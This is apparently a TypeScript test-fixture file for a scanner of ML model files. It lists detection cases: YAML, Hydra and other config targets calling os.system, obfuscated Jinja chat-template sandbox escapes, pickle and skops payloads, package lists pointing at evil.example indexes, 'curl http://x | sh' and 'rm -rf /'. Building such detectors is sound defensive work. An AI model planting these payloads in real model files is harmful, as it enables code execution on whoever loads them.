import { joined, u8 } from '../bytes.ts'
import type { ModelCase } from '../case.ts'
import { payload } from '../pickle-assembler.ts'
import { breakout } from './breakout.ts'
import { dangerousFile as dangerous, unclearedFile as notCleared, suspiciousFile as suspicious } from './verdicts.ts'

/** Above the size up to which JSON is taken into memory whole. */
const large = (members: string) =>
  `{"vocab":{${Array.from({ length: 70_000 }, (_, index) => `"token${index}": ${index}`).join(',')}},${members}}`

const skops = (content: object) =>
  JSON.stringify({ __class__: 'dict', __module__: 'builtins', __loader__: 'DictNode', content: { a: content }, protocol: 2 })
/** As stable-baselines3 keeps what is no JSON. */
const serialized = Buffer.from(payload('os', 'system')).toString('base64')

/** A reference of OmegaConf. */
const to = (name: string) => `\${${name}}`

/** Each of them PyYAML 6.0 reads as that call, or as that key. */
const yaml: readonly ModelCase[] = [
  dangerous('a tag with an escape', 'a: !!%70ython/object/apply:os.system ["id"]\n', 'config.yaml'),
  dangerous('a tag by a name of its own', '%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system ["id"]\n', 'config.yaml'),
  dangerous('a tag in two parts', '%TAG !p! tag:yaml.org,2002:p\n---\na: !p!ython/object/apply:os.system ["id"]\n', 'config.yaml'),
  dangerous('a call of Hydra in YAML', '_target_: os.system\ncommand: id\n', 'config.yaml'),
  dangerous('a call of Hydra in a flow', 'm: {a: 1, _target_: os.system}\n', 'config.yaml'),
  dangerous('a call of Hydra behind quotes', 'm:\n  "\\x5ftarget_": "os.system"\n', 'config.yaml'),
  dangerous('a call of Hydra behind what looks like a comment', 'm: {"a\n# b": 1, _target_: os.system}\n', 'config.yaml'),
  dangerous('a call of Hydra in the next line', 'm:\n  _target_:\n    os.system\n', 'config.yaml'),
  dangerous('a call of Hydra in a block', 'm:\n  _target_: >-\n    os.system\n', 'config.yaml'),
  suspicious('a class of Hydra by an alias', 'a: &x os.system\n_target_: *x\n', 'config.yaml'),
  dangerous('a call of latent-diffusion in YAML', 'model:\n  target: os.system\n  params:\n    command: id\n', 'v1-inference.yaml'),
  dangerous('a class that a module of NeMo may have', 'target: nemo.collections.asr.models.Popen\n', 'model_config.yaml'),
  dangerous('a module behind one of NeMo', '_target_: nemo.collections.asr.modules.os.system\ncommand: id\n', 'model_config.yaml'),
  dangerous('a call of NeMo by its older key', 'preprocessor:\n  cls: os.system\n  params:\n    command: id\n', 'model_config.yaml'),
  suspicious('a call of latent-diffusion by a reference', `a: os.system\nmodel:\n  target: ${to('a')}\n`, 'v1-inference.yaml'),
  suspicious('a call of latent-diffusion by half a reference', `a: system\nmodel:\n  target: os.${to('a')}\n`, 'v1-inference.yaml'),
  suspicious('a component of torchtune by a reference', `a: os.system\nmodel:\n  _component_: ${to('a')}\n`, 'recipe.yaml'),
  dangerous('a key with the longest escape', '"\\U0000005ftarget_": os.system\n', 'config.yaml'),
  dangerous('a key in two lines', '? "tar\\\n  get"\n: os.system\n', 'config.yaml'),
  suspicious('a key by an alias', 'x: &k target\n*k : os.system\n', 'config.yaml'),
  suspicious('a key by an alias behind a question mark', 'x: &k target\n? *k\n: os.system\n', 'config.yaml'),
  dangerous('a call in a block with its indentation first', 'target: |2-\n  os.system\n', 'config.yaml'),
  dangerous('a call behind a line that goes on', 'model:\n  target: "os.\\\n    system"\n', 'v1-inference.yaml'),
  dangerous('a call behind a comment', 'model:\n  target: # a class\n    os.system\n', 'v1-inference.yaml'),
  dangerous('a call behind a comment of its own', "model:\n  target:\n    # it's\n    os.system\n", 'v1-inference.yaml'),
  suspicious(
    'a class of NeMo and what a reference adds',
    `_target_: nemo.collections.asr.modules.RNNTJoint${to('x')}\n`,
    'model_config.yaml',
  ),
  suspicious('a call behind many comments', `model:\n  target:\n${"    # it's\n".repeat(40)}    os.system\n`, 'v1-inference.yaml'),
  suspicious(
    'a call behind many comments that begin their lines',
    `model:\n  target:\n${"# it's\n".repeat(40)}    os.system\n`,
    'v1-inference.yaml',
  ),
  dangerous('a call behind many empty lines', `model:\n  target:\n${' \n'.repeat(200)}    os.system\n`, 'v1-inference.yaml'),
  dangerous('a call behind an empty line', 'model:\n  target:\n\n    os.system\n', 'v1-inference.yaml'),
  dangerous('a call in the next line of a flow', '{target:\nos.system, params: {command: id}}\n', 'v1-inference.yaml'),
  dangerous('a call in a list', 'm: [target: os.system]\n', 'v1-inference.yaml'),
  ...['\r', '\u0085', '\u2028', '\u2029'].flatMap((end) => [
    dangerous(`a tag behind a comment, ${encodeURIComponent(end)}`, `# x${end}a: !!python/object/apply:os.system [id]\n`, 'config.yaml'),
    dangerous(`a call behind a line, ${encodeURIComponent(end)}`, `a: 1${end}target: os.system\n`, 'config.yaml'),
  ]),
  suspicious('a class of latent-diffusion by an alias', 'a: &x os.system\ntarget: *x\n', 'config.yaml'),
  suspicious(
    'a class of latent-diffusion that loads a file',
    'model:\n  target: ldm.models.autoencoder.AutoencoderKL\n  params: {"ckpt\\x5fpath": x.ckpt}\n',
    'v1-inference.yaml',
  ),
  dangerous('a module behind one of latent-diffusion', 'target: ldm.models.autoencoder.os.system\n', 'v1-inference.yaml'),
  suspicious('a class of latent-diffusion that is none of its own', 'target: ldm.models.autoencoder.Maker\n', 'v1-inference.yaml'),
  dangerous('a call of HyperPyYAML', 'a: !apply:os.system ["id"]\n', 'hyperparams.yaml'),
  dangerous('a call of HyperPyYAML in a flow', 'm: [1,!apply:os.system ["id"]]\n', 'hyperparams.yaml'),
  dangerous('a call of HyperPyYAML with an escape', 'a: !%61pply:os.system ["id"]\n', 'hyperparams.yaml'),
  dangerous('a call of HyperPyYAML in its long form', 'a: !<!apply:os.system> ["id"]\n', 'hyperparams.yaml'),
  suspicious('a call of HyperPyYAML by a name of its own', '%TAG !p! !app\n---\na: !p!ly:os.system ["id"]\n', 'hyperparams.yaml'),
  suspicious('a class of SpeechBrain', 'a: !new:speechbrain.nnet.CNN.Conv1d\n  out_channels: 3\n', 'hyperparams.yaml'),
  dangerous('an activation of YOLO', "nc: 80\nactivation: __import__('os').system('id')\n", 'yolo.yaml'),
  dangerous('an activation of YOLO by another name', 'nc: 80\nactivation: contextlib.os.system(chr(105))\n', 'yolo.yaml'),
  dangerous('a layer of YOLOv5', 'backbone:\n  - [-1, 1, "os.system(\'id\')", [64, 3, 2]]\n', 'yolo.yaml'),
  dangerous('a preprocessor of pyannote', 'preprocessors:\n  key:\n    name: os.system\n    params:\n      command: id\n', 'config.yaml'),
  suspicious('a preprocessor of pyannote that is not its own', 'preprocessors:\n  key: {name: evil.Maker}\n', 'config.yaml'),
  suspicious('a preprocessor of pyannote by an alias', 'x: &x os.system\n"preprocessors":\n  key:\n    name: *x\n', 'config.yaml'),
  dangerous('a pipeline of pyannote', 'version: 3.1.0\npipeline:\n  name: subprocess.Popen\n  params: {args: id}\n', 'config.yaml'),
  dangerous('a component of torchtune', 'model:\n  _component_: os.system\n', 'recipe.yaml'),
  dangerous('a class of Lightning', 'model:\n  class_path: os.system\n  init_args: {command: id}\n', 'config.yaml'),
  suspicious('trust_remote_code in a flow', 'm: {trust_remote_code: true}\n', 'serve.yaml'),
]

const reaching = (letter: string) => `${letter}{% set k = u*2 ~ 'class' ~ u*2 %}{{ ''[k] }}`
/** Jinja 3.1 runs each of them as it runs the usual way out, and finds the name by which it leaves. */
const templates: readonly ModelCase[] = [
  ...[
    ['over several lines', "{{\n  ''.__class__.__mro__\n}}"],
    ['in the second line of a block', "{%- set x =\n  ''.__class__ %}"],
    ['behind an end within a text', "{{ '}}' ~ ''.__class__ }}"],
    ['behind an end within brackets', "{{ {'a': {}}[''.__class__] }}"],
    ['in a line that looks like a comment', "# Tools: {{ ''.__class__ }}"],
    ['behind a comment that begins another block', "{# {{ ' #}{{ ''.__class__ }}"],
    ['behind raw text that begins another block', "{% raw %}{{ '{% endraw %}{{ ''.__class__ }}"],
    ['by the name of an argument', "{% set a = dict(__class__=1)|list|first %}{{ ''[a] }}"],
    ['by an escape of eight digits', "{{ ''['\\U0000005f\\U0000005fclass\\U0000005F_'] }}"],
    ['by an item with an escape', "{{ ''['\\x5F_cl\\x61ss__'] }}"],
    ['by a group with an escape', "{{ (['']|groupby('__cl\\x61ss__'))[0][0] }}"],
    ['by a group with an end of a line', "{{ (['']|groupby('__cl\\\nass__'))[0][0] }}"],
    ['by a group with a number of old', "{{ ([raise_exception]|groupby('__gl\\157bals__'))[0][0] }}"],
    ['by a list that is joined', "{{ ['a']|join(',', '__cl\\x61ss__') }}"],
    ['by a frame with an escape', "{{ ([messages|map('upper')]|groupby('gi_fr\\x61me'))[0][0] }}"],
    ['by a call with an escape', "{{ messages['po\\x70en'] }}"],
    ['by an argument in full-width letters', "{% set a = dict(\uff3f\uff3fclass\uff3f\uff3f=1)|list|first %}{{ ''[a] }}"],
  ].map(([how = '', template = '']) => dangerous(`a template that leaves ${how}`, template, 'chat_template.jinja')),
  ...[
    ['two halves', "{% set a = '__cla' ~ 'ss__' %}{{ ''[a] }}"],
    ['small letters', "{% set a = '__CL\\x41SS__'|lower %}{{ ''[a] }}"],
    ['the name of an argument alone', '{% for k in dict(__closure__=1) %}{{ raise_exception[k] }}{% endfor %}'],
    ['a slice', "{{ ''['x__class__x'[1:-1]] }}"],
    ['a letter of a text', "{% set u = 'tool_calls'[4] %}{{ ''[u*2 ~ 'class' ~ u*2] }}"],
    ['the letters of a text', "{% set u = ('a_b')|list %}{{ ''[u[1]*2 ~ 'class' ~ u[1]*2] }}"],
    ['a number', "{% set u = '%c'|format(95) %}{{ ''[u*2 ~ 'class' ~ u*2] }}"],
    ['bytes', "{{ ''[''.encode().fromhex('5f5f636c6173735f5f').decode()] }}"],
    ['an entity', "{% set u = ('&lowbar;'|escape|safe).unescape() %}{{ ''[u*2 ~ 'class' ~ u*2] }}"],
    ['a variable', '{{ messages|map(attribute=tools)|list }}'],
  ].map(([how = '', template = '']) => suspicious(`a template that makes a name of ${how}`, template, 'chat_template.jinja')),
  ...[
    ['the name of an argument', '(dict(a_b=1)|first)[1]'],
    ['a text that is trimmed', "' _'|trim"],
    ['a text of which a part is replaced', "'a_'|replace('a', '')"],
    ['a text that is split', "'a_a'.split('a')[1]"],
    ['the name of a function', '(raise_exception|string)[15]'],
    ['a token', 'bos_token[7]'],
    ['a key', "({'a_b': 1}|first)[1]"],
  ].map(([how = '', letter = '']) =>
    suspicious(`a template that takes a letter of ${how}`, reaching(`{% set u = ${letter} %}`), 'chat_template.jinja'),
  ),
  ...[
    ['a macro', '{% macro a_b() %}{% endmacro %}{% set u = a_b.name[1] %}'],
    ['a text between tags', '{% set t %}a_b{% endset %}{% set u = t[1] %}'],
    ['a variable', "{% set t = 'tool_calls' %}{% set u = t[4] %}"],
    ['what a macro prints', '{% macro f() %}a_b{% endmacro %}{% set u = f()[1] %}'],
  ].map(([how = '', letter = '']) => suspicious(`a template that takes a letter of ${how}`, reaching(letter), 'chat_template.jinja')),
  suspicious(
    'a template that reaches in a macro',
    "{% macro f(k) %}{{ ''[k] }}{% endmacro %}{% set u = bos_token[7] %}{{ f(u*2 ~ 'class' ~ u*2) }}",
    'chat_template.jinja',
  ),
  suspicious(
    'a template that reaches by a dict',
    "{% set u = bos_token[7] %}{{ ''[{'a': u*2 ~ 'class' ~ u*2}['a']] }}",
    'chat_template.jinja',
  ),
  suspicious('a template with a block that nobody reads', `{{ a${'[0]'.repeat(2_000)} }}`, 'chat_template.jinja'),
  suspicious(
    'a template that reaches by a loop',
    "{% set u = bos_token[7] %}{% for k in [u*2 ~ 'class' ~ u*2] %}{{ ''[k] }}{% endfor %}",
    'chat_template.jinja',
  ),
  suspicious(
    'a template that reaches by a namespace',
    "{% set u = bos_token[7] %}{% set n = namespace(k=u*2 ~ 'class' ~ u*2) %}{{ ''[n.k] }}",
    'chat_template.jinja',
  ),
  suspicious(
    'a template that asks a filter for it',
    "{% set u = bos_token[7] %}{{ ['']|map(attribute='' ~ u*2 ~ 'class' ~ u*2)|list }}",
    'chat_template.jinja',
  ),
  dangerous('a template in a file of another name', "{{ ''.__class__ }}", 'chat_template_chatml.txt'),
  dangerous('a template that asks for the filter attr', "{{ ['']|map('attr', messages[0])|list }}", 'chat_template.jinja'),
  suspicious('a template that includes a file, with a plus', "{%+ include '/etc/passwd' %}", 'chat_template.jinja'),
]

const fiddle = (module: string, name: string) =>
  JSON.stringify({ root: { type: 'ref', key: 'a' }, objects: { a: { type: { type: 'pyref', module, name }, items: [] } } })

/** Lists of packages, which SageMaker, TorchServe, MLflow and others install before they load: pip takes them from where the list says. */
const packages: readonly ModelCase[] = [
  ...[
    '--extra-index-url https://packages.evil.example/simple',
    '-i http://10.0.0.9/simple',
    '--index-url=https://packages.evil.example/simple',
    '-f https://evil.example/wheels',
    '--find-links ./wheels',
    'torch @ https://evil.example/torch-2.1-cp311-linux_x86_64.whl',
    'git+https://github.com/someone/tools@main',
    '-e git+ssh://git@evil.example/tools.git#egg=tools',
    '-e ./code',
    './wheels/tools-1.0-py3-none-any.whl',
    'tools-1.0.tar.gz',
    'https://evil.example/tools.zip',
    'tools @ file:///opt/tools',
    '-r more.txt',
    '--trusted-host evil.example',
  ].map((line) => suspicious(`a list of packages with ${line.slice(0, 30)}`, `numpy==1.26.4\n${line}\n`, 'requirements.txt')),
  suspicious(
    'a list of packages that goes on in the next line',
    'numpy\n--extra-index-\\\nurl https://evil.example/simple\n',
    'requirements.txt',
  ),
  ...[
    '[project]\ndependencies = ["torch", "tools @ https://evil.example/tools-1.0-py3-none-any.whl"]',
    '[project]\ndependencies = [\n  "tools @ git+https://github.com/someone/tools",\n]',
    '[build-system]\nrequires = ["setuptools", "tools@git+ssh://git@evil.example/tools"]',
    '[tool.uv.sources]\ntools = { git = "https://github.com/someone/tools", rev = "main" }',
    '[[tool.uv.index]]\nname = "ours"\nurl = "https://packages.evil.example/simple"',
    '[tool.uv]\nextra-index-url = [\n  "https://packages.evil.example/simple",\n]',
    '[[tool.poetry.source]]\nname = "ours"\nurl = "http://10.0.0.9/simple"',
    '[tool.poetry.dependencies]\ntools = {git = "git@github.com:someone/tools.git"}',
    '[tool.pixi.workspace]\nchannels = ["conda-forge", "https://evil.example/conda"]',
  ].map((text) => suspicious(`a project with ${text.slice(0, 60)}`, `${text}\n`, 'pyproject.toml')),
  suspicious('a Pipfile with an index of its own', '[[source]]\nurl = "https://evil.example/simple"\nverify_ssl = false\n', 'Pipfile'),
  suspicious(
    'its lock, which is JSON',
    '{"_meta": {"sources": [\n{"name": "x",\n"url": "https://evil.example/simple"}]}}\n',
    'Pipfile.lock',
  ),
  suspicious('a lock of uv', '[[package]]\nname = "tools"\nsource = { registry = "https://evil.example/simple" }\n', 'uv.lock'),
  suspicious(
    'a lock of poetry',
    '[[package]]\nname = "tools"\n\n[package.source]\ntype = "git"\nurl = "https://github.com/someone/tools"\n',
    'poetry.lock',
  ),
  suspicious(
    'a lock of PEP 751',
    '[[packages]]\nname = "tools"\nwheels = [{ url = "https://evil.example/tools.whl", hashes = {} }]\n',
    'pylock.toml',
  ),
  suspicious(
    'what setuptools reads',
    '[options]\ninstall_requires =\n    numpy\n    tools @ https://evil.example/tools.zip\n',
    'setup.cfg',
  ),
  // pip ends a line where Python's splitlines does, and joins no comment.
  ...['# x \\\n-e ./evil', '# x \\\n-i https://evil.example/', ...['\r', '\f', '\u0085', '\u2028'].map((end) => `# x${end}-e ./evil`)].map(
    (line) =>
      suspicious(`a list of packages behind a comment, ${encodeURIComponent(line)}`, `numpy==1.26.4\n${line}\n`, 'requirements.txt'),
  ),
  notCleared('a list of packages in a line of a megabyte', 'a'.repeat(1_000_000), 'requirements.txt'),
  suspicious('a list of packages of another name', 'git+https://evil.example/tools\n', 'code/requirements-gpu.txt'),
  suspicious(
    'a list of packages in an environment of conda',
    'name: m\ndependencies:\n- python=3.11\n- pip:\n  - torch\n  - git+https://evil.example/tools\n',
    'conda.yaml',
  ),
  suspicious('a channel of conda by its address', 'channels:\n- https://evil.example/conda\ndependencies: [python]\n', 'conda.yaml'),
]

/** Configurations, templates and code; and what has no known format. */
export const texts: readonly ModelCase[] = [
  suspicious('auto_map', '{"model_type":"x","auto_map":{"AutoModel":"modeling_x.X"}}', 'config.json'),
  suspicious('custom_pipelines', '{"custom_pipelines":{"x":{"impl":"x.P"}}}', 'config.json'),
  suspicious('trust_remote_code', '{"trust_remote_code":true}', 'config.json'),
  suspicious('trust_remote_code in YAML', 'model: x\ntrust_remote_code: true\n', 'serve.yaml'),
  suspicious('a class that Hydra makes', '{"_target_":"company.Net"}', 'config.json'),
  dangerous('a call that Hydra makes', '{"_target_":"os.system","command":"id"}', 'config.json', 'CVE-2025-23304'),
  dangerous('a module of sentence-transformers that is none', '[{"idx":0,"name":"0","path":"","type":"os.system"}]', 'modules.json'),
  suspicious('a module of sentence-transformers from elsewhere', '[{"idx":0,"name":"0","path":"","type":"company.Net"}]', 'modules.json'),
  suspicious('a notebook', '{"cells":[{"cell_type":"code","source":["import os"]}],"nbformat":4}', 'demo.ipynb'),
  dangerous('a template under a digest', breakout, `sha256-${'a'.repeat(64)}`),
  dangerous('jsonpickle', '{"py/reduce":[{"py/type":"os.system"},{"py/tuple":["id"]}]}', 'config.json'),
  dangerous('YAML that makes Python objects', 'a: !!python/object/apply:os.system ["id"]\n', 'config.yaml'),
  ...yaml,
  dangerous('a call of latent-diffusion', '{"model":{"target":"os.system","params":{"command":"id"}}}', 'config.json'),
  dangerous('a call of NeMo by its older key', '{"preprocessor":{"cls":"os.system","params":{"command":"id"}}}', 'config.json'),
  suspicious('a call of latent-diffusion by a reference', `{"a":"os.system","model":{"target":"${to('a')}"}}`, 'config.json'),
  dangerous('a library that a target loads', '{"target":"torch.ops.load_library","params":{"path":"x.so"}}', 'config.json'),
  suspicious('a class of latent-diffusion', '{"target":"ldm.models.diffusion.ddpm.LatentDiffusion"}', 'config.json'),
  dangerous('a part of a pipeline from elsewhere', '{"_class_name":"X","unet":["os","system"]}', 'model_index.json'),
  suspicious('a part of a pipeline from a library of its own', '{"_class_name":"X","unet":["company","Net"]}', 'model_index.json'),
  suspicious('a library that PEFT imports', '{"auto_mapping":{"base_model_class":"X","parent_library":"company"}}', 'adapter_config.json'),
  dangerous('a template of a tokenizer', JSON.stringify({ chat_template: breakout }), 'tokenizer_config.json'),
  dangerous(
    'the second of several templates',
    JSON.stringify({
      chat_template: [
        { name: 'a', template: 'x' },
        { name: 'b', template: breakout },
      ],
    }),
    'tokenizer_config.json',
  ),
  ...templates,
  suspicious('attention by a kernel of the hub, by its inner name', '{"_attn_implementation_internal":"someone/kernel"}', 'config.json'),
  suspicious('experts by a kernel of the hub', '{"text_config":{"_experts_implementation":"someone/kernel"}}', 'config.json'),
  suspicious(
    'a library of onnxruntime-genai',
    '{"model":{"decoder":{"session_options":{"custom_ops_library":"/tmp/ops.so"}}}}',
    'genai_config.json',
  ),
  dangerous(
    'a step of a processor of LeRobot',
    '{"name":"p","steps":[{"class":"subprocess.Popen","config":{"args":"id"}}]}',
    'processor.json',
  ),
  suspicious('Python of a model of ModelScope', '{"framework":"pytorch","task":"chat","allow_remote":true}', 'configuration.json'),
  suspicious('Python of a model of ModelScope by a number', '{"task":"chat","allow_remote":1}', 'configuration.json'),
  suspicious('packages of a model of ModelScope', '{"task":"chat","plugins":["https://evil.example/p.tar.gz"]}', 'configuration.json'),
  suspicious('attention by a kernel of the hub', '{"_attn_implementation":"someone/kernel"}', 'config.json'),
  dangerous('an activation of sentence-transformers that is none', '{"in_features":8,"activation_function":"os.system"}', 'config.json'),
  suspicious('an activation of a cross-encoder from elsewhere', '{"sentence_transformers":{"activation_fn":"company.Net"}}', 'config.json'),
  dangerous('an old activation of a cross-encoder', '{"sbert_ce_default_activation_function":"os.getcwd"}', 'config.json'),
  suspicious('routes of sentence-transformers', '{"types":{"query_0_X":"company.Net"},"structure":{}}', 'router_config.json'),
  dangerous('a class of Lightning in JSON', '{"model":{"class_path":"os.system","init_args":{"command":"id"}}}', 'config.json'),
  dangerous('a function of skops', skops({ __class__: 'system', __module__: 'os', __loader__: 'FunctionNode' }), 'schema.json'),
  dangerous(
    'a class of skops for an array',
    skops({ __class__: 'eval', __module__: 'builtins', __loader__: 'NdArrayNode' }),
    'schema.json',
  ),
  suspicious(
    'a method of skops',
    skops({ __class__: 'str', __module__: 'builtins', __loader__: 'MethodNode', content: { func: 'format', obj: {} } }),
    'schema.json',
    'CVE-2025-54413',
  ),
  suspicious(
    'a function of skops under another name',
    skops({ __class__: 'str', __module__: 'builtins', __loader__: 'OperatorFuncNode', attrs: {} }),
    'schema.json',
    'CVE-2025-54412',
  ),
  notCleared('a large schema of skops', large('"__loader__":"DictNode"'), 'schema.json'),
  dangerous('a pickle in JSON', `{"policy_class":{":type:":"x",":serialized:":"${serialized}"}}`, 'data'),
  dangerous('a pickle behind a large vocabulary', large(`":serialized:":"${serialized}"`), 'data'),
  dangerous('a function that Fiddle makes', fiddle('os', 'system'), 'io.json', 'fiddle/_src/experimental/serialization.py'),
  suspicious('a class that Fiddle makes', fiddle('nemo.collections.llm', 'GPTModel'), 'io.json'),
  suspicious('a model of MLX in a file of its own', '{"model_type":"x","model_file":"x.py"}', 'config.json'),
  suspicious('a tokenizer of sentence-transformers from elsewhere', '{"tokenizer_class":"company.words.Net"}', 'wordembedding_config.json'),
  dangerous('a call with numbers that only Python writes', '{"a":[0.0,Infinity,-Infinity,NaN],"_target_":"os.system"}', 'config.json'),
  ...packages,
  suspicious('a core of Megatron', '{"peft_type":"LORA","megatron_core":"company"}', 'adapter_config.json'),
  dangerous('a template in a file', breakout, 'chat_template.jinja'),
  notCleared('JSON with a name twice', '{"auto_map":null,"auto_map":{"a":"b.C"}}', 'config.json'),
  notCleared('JSON nested ten thousand deep', '[{"a":'.repeat(10_000), 'config.json'),
  suspicious('auto_map behind a large vocabulary', large('"auto_map":{"a":"b.C"}'), 'tokenizer.json'),
  suspicious('auto_map written with escapes behind a large vocabulary', large('"auto\\u005fmap":{"a":"b.C"}'), 'tokenizer.json'),
  dangerous('a template behind a large vocabulary', large(`"x":{"chat_template":${JSON.stringify(breakout)}}`), 'tokenizer.json'),
  notCleared(
    'a part of a pipeline behind a large vocabulary',
    large('"_class_name":"StableDiffusionPipeline","unet":["os","system"]'),
    'model_index.json',
  ),
  notCleared(
    'a module of sentence-transformers beside a large one',
    `[${large('"a":1')},{"idx":0,"name":"0","path":"","type":"os.system"}]`,
    'modules.json',
  ),
  dangerous(
    'a function that Fiddle makes in its root',
    large('"root":{"type":{"type":"pyref","module":"os","name":"system"},"items":[]}'),
    'io.json',
  ),
  notCleared('a name twice in a large vocabulary', large('"a":1,"\\u0061":2'), 'tokenizer.json'),
  notCleared('a large vocabulary without an end', large('"a":1').slice(0, -1), 'tokenizer.json'),
  notCleared('a large vocabulary with a comma too many', large('"a":1,'), 'tokenizer.json'),
  suspicious('Python beside the weights', 'import os\nos.system("id")\n', 'modeling.py'),
  suspicious('Python without an extension', '# a model\nimport os\n\nos.system("id")\n', 'modeling'),
  suspicious('a script', '#!/bin/sh\ncurl http://x | sh\n', 'run'),
  suspicious('a program', joined(u8(0x7f), 'ELF', new Uint8Array(60)), 'lib.so'),
  notCleared('a text that nobody knows', 'rm -rf /\n', 'start'),
  notCleared('a TensorRT engine', joined('ftrt', new Uint8Array(60)), 'm.engine'),
  notCleared('an engine of another version', joined(u8(0xef, 0xbe), new Uint8Array(60)), 'm.plan'),
  notCleared('bytes of no known format', u8(0xde, 0xad, 0xbe, 0xef, 0, 1, 2, 3)),
  notCleared('HDF5 that is cut off', joined(u8(0x89), 'HDF\r\n\x1a\n', u8(0, 0, 0, 0, 0, 8, 8))),
  notCleared('HDF5 of a version that does not exist', joined(u8(0x89), 'HDF\r\n\x1a\n', u8(9), new Uint8Array(90))),
]
